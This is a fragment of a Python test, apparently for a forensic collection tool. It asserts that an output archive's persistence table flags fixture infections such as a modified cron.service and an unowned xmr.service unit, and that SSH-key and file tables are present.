    with tarfile.open(out) as tar:
        member = tar.extractfile("tables/persistence.jsonl")
        assert member is not None
        rows = [json.loads(line) for line in member.read().decode().splitlines()]
        names = tar.getnames()
    got = {(r["kind"], r["location"], r["source_line"], r["name"], r["command"]) for r in rows}
    assert set(trees.INFECTED_ENTRIES) <= got
    packaged = {(r["location"], r["packaged"]) for r in rows}
    assert ("/lib/systemd/system/cron.service", "modified") in packaged
    assert ("/etc/systemd/system/xmr.service", "unowned") in packaged
    assert "tables/ssh_keys.jsonl" in names and "tables/files.jsonl" in names
    assert "tables/errors.jsonl" not in names
